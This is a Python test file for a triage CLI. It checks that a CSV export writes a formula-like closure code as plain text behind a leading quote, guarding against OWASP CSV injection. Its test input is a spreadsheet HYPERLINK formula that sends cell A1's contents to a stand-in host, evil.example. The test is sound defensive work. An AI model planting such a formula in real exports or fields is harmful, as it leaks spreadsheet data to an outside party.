"""`triage stats --csv`: a closure code typed as a formula is written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from triage.cli.main import main

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def run(*argv: str, stdin: str = "") -> tuple[int, str]:
    out = io.StringIO()
    return main(list(argv), out=out, inp=io.StringIO(stdin)), out.getvalue()


def test_stats_csv_writes_a_formula_closure_code_as_text(tmp_path: Path) -> None:
    """The faults table keeps the code's characters, behind a leading quote, in one quoted cell."""
    db = f"sqlite:///{tmp_path / 'cli.db'}"
    assert run("publish", "--db", db)[0] == 0
    wifi_only = "all\nactive\nno\nyes\nok\nonline\nnot_fixed\ndone\nready\nready\nnot_fixed\nwired_ok\nok\nnot_fixed\nnot_fixed\n"
    run("run", "no-internet", "--persist", "--db", db, stdin=wifi_only)  # escalates: case #1
    assert run("case", "close", "1", "--user", "tom", "--code", FORMULA, "--db", db)[0] == 0
    target = tmp_path / "faults.csv"
    code, out = run("stats", "--db", db, "--csv", str(target), "--table", "faults")
    assert code == 0
    assert out.endswith(f"wrote the faults table to {target}\n")
    text = target.read_text(encoding="utf-8")
    assert text == (
        '"tree_id","true_fault","sessions"\n'
        '"no-internet","\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","1"\n'
    )
    assert list(csv.reader(io.StringIO(text)))[1][1] == "'" + FORMULA
